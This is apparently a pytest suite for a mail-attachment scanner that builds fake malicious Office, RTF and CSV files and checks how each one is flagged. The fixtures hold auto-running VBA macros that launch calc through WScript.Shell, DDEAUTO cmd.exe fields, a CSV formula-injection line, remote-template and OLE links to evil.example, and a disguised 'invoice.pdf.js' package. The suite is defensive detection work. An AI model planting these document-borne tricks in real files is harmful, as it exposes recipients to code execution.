"""Office documents: made ones, with what they must not have, and honest ones."""

import struct

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.scanning.test_archives import zipped
from tests.support.compound import compound
from tests.support.scanned import attached, found
from tests.support.vba import project, vba_project

from outgate.scanning.office import Office

TYPES = ("[Content_Types].xml", b"<x/>")
BY_ITSELF = 'Sub AutoOpen()\r\nCreateObject("WScript.Shell").Run "calc"\r\nEnd Sub'
RELATION = '<Relationships><Relationship Id="r1" Type="http://x/relationships/%s" Target="%s" TargetMode="External"/>'


def office(name: str, octets: bytes, domains: frozenset[str] = frozenset()) -> set[tuple[str, str, int]]:
    findings = found(Office(), attached((name, octets)), domains)
    return {(finding.category.value, finding.name, finding.weight) for finding in findings}


MACROS = ("attachment", "macros", 100)
PROGRAM = {("attachment", "executable", 100), ("malware", "program-in-document", 95)}
ENCRYPTED = ("attachment", "encrypted", 100)


def docm(source: str) -> bytes:
    return zipped(
        TYPES, ("word/document.xml", b"<w:document/>"), ("word/vbaProject.bin", vba_project({"ThisDocument": source}))
    )


@pytest.mark.parametrize(
    ("source", "more"),
    [
        ("Sub Sum()\r\nEnd Sub", set()),
        (BY_ITSELF, {("malware", "macro-runs-by-itself", 90)}),
        ("Sub Document_Open()\r\nx = 1\r\nEnd Sub", {("malware", "macro-runs-by-itself", 40)}),
        ('Sub Document_Open()\r\nKill "x.tmp"\r\nEnd Sub', {("malware", "macro-runs-by-itself", 60)}),
    ],
)
def test_macros_and_those_that_run_by_themselves(source: str, more: set[tuple[str, str, int]]) -> None:
    assert office("a.docm", docm(source)) == {MACROS, *more}
    assert office("a.doc", compound({"WordDocument": bytes(600), **project({"M": source}, "Macros")})) == {
        MACROS,
        *more,
    }
    assert office("a.zip", zipped(("b.zip", zipped(("c.docm", docm(source)))))) == {MACROS, *more}


def test_place_and_detail_tell_what_it_was() -> None:
    [_, finding] = found(Office(), attached(("a.docm", docm(BY_ITSELF))))
    assert (finding.place, finding.detail) == ("2/a.docm/vbaProject.bin", "AutoOpen, wscript.shell")


def record(kind: int, value: bytes) -> bytes:
    return struct.pack("<HH", kind, len(value)) + value


def workbook(*records: bytes) -> bytes:
    return compound({"Workbook": record(0x809, bytes(16)) + b"".join(records)})


SHEET = record(0x85, struct.pack("<IBB", 0, 2, 1) + b"\x05\0Macro")
PLAIN_SHEET = record(0x85, struct.pack("<IBB", 0, 0, 0) + b"\x05\0Sheet")
AUTO_OPEN = record(0x18, struct.pack("<HBBHHHBBBB", 0x20, 0, 1, 0, 0, 0, 0, 0, 0, 0) + b"\0\x01")


@pytest.mark.parametrize(
    ("octets", "expected"),
    [
        (workbook(SHEET), {MACROS, ("malware", "macro-sheet", 60)}),
        (workbook(SHEET, AUTO_OPEN), {MACROS, ("malware", "macro-sheet", 90)}),
        (workbook(PLAIN_SHEET), set()),
        (workbook(record(0x2F, bytes(6))), {ENCRYPTED}),
        (workbook(record(0x1AE, b"\0\0\x0f\0\0cmd\x03/C calc")), {("malware", "dde", 90)}),
        (workbook(record(0x1AE, b"\0\0\x0f\0\0Excel\x03Book")), {("malware", "dde", 40)}),
    ],
)
def test_older_workbooks(octets: bytes, expected: set[tuple[str, str, int]]) -> None:
    assert office("a.xls", octets) == expected


def test_macro_sheets_of_newer_workbooks() -> None:
    book = b'<sheet name="m" state="veryHidden"/><definedName name="_xlnm.Auto_Open">m!A1</definedName>'
    octets = zipped(TYPES, ("xl/workbook.xml", book), ("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>"))
    assert office("a.xlsm", octets) == {MACROS, ("malware", "macro-sheet", 90)}
    assert office("a.xlsx", zipped(TYPES, ("xl/workbook.xml", book))) == set()


def docx(text: str, relation: tuple[str, str] = ("hyperlink", "https://x.example/")) -> bytes:
    return zipped(
        TYPES, ("word/document.xml", text.encode()), ("word/_rels/settings.xml.rels", (RELATION % relation).encode())
    )


@pytest.mark.parametrize(
    ("text", "weight"),
    [
        ('<w:fldSimple w:instr=" DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot; ">', 90),
        (('<w:fldChar w:fldCharType="begin"/><w:instrText>D</w:instrText><w:instrText xml:space="preserve">DEAUTO cmd'
         '</w:instrText><w:instrText> "/c calc"</w:instrText><w:fldChar w:fldCharType="end"/>'), 90),
        ('<w:instrText> DDE Excel.exe Book1 </w:instrText>', 40),
        ("<w:instrText> HYPERLINK \"DDE\" </w:instrText>", 0),
        ("<w:t>DDEAUTO is a field</w:t>", 0),
    ],
)  # fmt: skip
def test_fields_that_start_programs(text: str, weight: int) -> None:
    assert office("a.docx", docx(text)) == ({("malware", "dde", weight)} if weight else set())


def test_fields_of_older_documents_and_tables() -> None:
    text = b'words \x13 DDEAUTO c:\\\\x\\\\cmd.exe "/c calc" \x14\x15 words'
    assert office("a.doc", compound({"WordDocument": bytes(600) + text})) == {("malware", "dde", 90)}
    wide = compound({"WordDocument": bytes(600) + text.decode().encode("utf-16-le")})
    assert office("a.doc", wide) == {("malware", "dde", 90)}
    assert office("a.csv", b"1,2\r\n=cmd|'/C calc'!A0,3\r\n") == {("malware", "dde", 90)}
    assert office("a.csv", b"a,-name|well, well!\r\n") == {("malware", "dde", 40)}
    assert office("a.csv", b"1,-2|3\r\n=SUM(A1:A2)|x\r\na,+49 30|b\r\n") == set()


@pytest.mark.parametrize(
    ("kind", "target", "expected"),
    [
        ("attachedTemplate", "https://evil.example/t.dotm", ("remote-template", 90)),
        ("attachedTemplate", "https://files.alpha.example/t.dotx", ("remote-template", 40)),
        ("attachedTemplate", "https://alpha.sharepoint.com/t.dotx", ("remote-template", 40)),
        ("attachedTemplate", "file:///C:\\Users\\ada\\t.dotx", None),
        ("attachedTemplate", "file:///\\\\files\\share\\t.dotx", ("remote-template", 40)),
        ("attachedTemplate", "file:///\\\\192.0.2.1\\t.dotm", ("remote-template", 90)),
        ("attachedTemplate", "file://192.0.2.1/t.dotm", ("remote-template", 90)),
        ("attachedTemplate", "\\\\192.0.2.1\\share\\t.dotm", ("remote-template", 90)),
        ("oleObject", "mhtml:https://evil.example/x!x-usc:x", ("remote-object", 90)),
        ("hyperlink", "https://evil.example/", None),
        ("image", "https://img.example/a.png", None),
    ],
)
def test_what_is_fetched_by_itself(kind: str, target: str, expected: tuple[str, int] | None) -> None:
    octets = docx("<w:t/>", (kind, target))
    wanted = {("malware", *expected)} if expected else set()
    assert office("a.docx", octets, frozenset(("alpha.example",))) == wanted


def native(name: bytes, content: bytes) -> bytes:
    inner = b"\x02\0" + name + b"\0C:\\t\\" + name + b"\0" + struct.pack("<HHI", 0, 3, 4) + b"tmp\0"
    inner += struct.pack("<I", len(content)) + content
    return struct.pack("<I", len(inner)) + inner


PACKED = compound({"\x01Ole10Native": native(b"invoice.pdf.js", b"var x")})


def test_files_packed_into_documents() -> None:
    expected = PROGRAM
    assert (
        office("a.docx", zipped(TYPES, ("word/document.xml", b""), ("word/embeddings/oleObject1.bin", PACKED)))
        == expected
    )
    quiet = compound({"ObjectPool/_1/\x01Ole10Native": native(b"photo.png", b"\x89PNG\r\n\x1a\n")})
    assert office("a.doc", quiet) == {("malware", "file-in-document", 40)}


def rtf(octets: bytes, name: bytes) -> bytes:
    data = (
        struct.pack("<III", 0x501, 2, len(name) + 1) + name + b"\0" + bytes(8) + struct.pack("<I", len(octets)) + octets
    )
    digits = b"\r\n".join(data.hex()[at : at + 60].encode() for at in range(0, len(data) * 2, 60))
    return b"{\\rtf1 words{\\object\\objemb{\\*\\objdata {\\x junk}" + digits + b"}}}"


@pytest.mark.parametrize(
    ("octets", "expected"),
    [
        (rtf(b"x", b"Equation.3"), {("malware", "equation-object", 90)}),
        (rtf(native(b"x.exe", b"MZ")[4:], b"Package"), PROGRAM),
        (rtf(b"x", b"OLE2Link"), {("malware", "remote-object", 90)}),
        (rtf(PACKED, b"Word.Document.8"), PROGRAM),
        (b"{\\rtf1{\\*\\template https://evil.example/t.dotm}}", {("malware", "remote-template", 90)}),
        (b"{\\rtf1{\\*\\template C:\\\\Users\\\\t.dot}}", set()),
        (b"{\\rtf1 words}", set()),
    ],
    ids=["equation", "package", "link", "inner", "template", "own-template", "plain"],
)  # fmt: skip
def test_rtf(octets: bytes, expected: set[tuple[str, str, int]]) -> None:
    assert office("a.rtf", octets) == expected
    assert office("a.doc", octets) == expected


def test_passwords() -> None:
    assert office("a.docx", compound({"EncryptedPackage": bytes(5_000), "EncryptionInfo": bytes(90)})) == {ENCRYPTED}
    assert office("a.doc", compound({"WordDocument": bytes(11) + b"\x01" + bytes(600)})) == {ENCRYPTED}
    user = compound({"Current User": bytes(12) + b"\xdf\xc4\xd1\xf3", "PowerPoint Document": bytes(9)})
    assert office("a.ppt", user) == {ENCRYPTED}


def test_installers_basic_and_damage() -> None:
    installer = bytes.fromhex("84100C0000000000C000000000000046")
    assert office("a.dat", compound({"x": b"1"}, installer)) == {("attachment", "executable", 100)}
    members = (("mimetype", b"application/x"), ("META-INF/manifest.xml", b""), ("Basic/script-lb.xml", b"<x/>"))
    assert office("a.odt", zipped(*members)) == {MACROS}
    assert office("a.doc", compound({"WordDocument": bytes(600)})[:700]) == {("unscannable", "document-damaged", 100)}


@pytest.mark.parametrize(
    "octets",
    [
        b"{\\rtf1" + b"{\\objdata" * 50_000,
        b"{\\rtf1" + b"\\*\\template " * 50_000,
        docx("<w:fldSimple w:instr=" * 50_000),
        docx("<w:instrText>D" * 50_000 + "DE"),
        docx("<w:fldChar w:fldCharType=" * 50_000),
        zipped(TYPES, ("word/_rels/a.rels", b"<Relationship Target=" * 50_000)),
    ],
    ids=["objects", "templates", "simple", "instructions", "characters", "relations"],
)
def test_made_documents_cost_little(octets: bytes) -> None:
    office("a.doc", octets)


@given(st.integers(0, len(PACKED) - 1), st.integers(0, 255))
def test_any_damage_is_found_or_harmless(at: int, value: int) -> None:
    damaged = PACKED[:at] + bytes([value]) + PACKED[at + 1 :]
    office("a.doc", damaged)
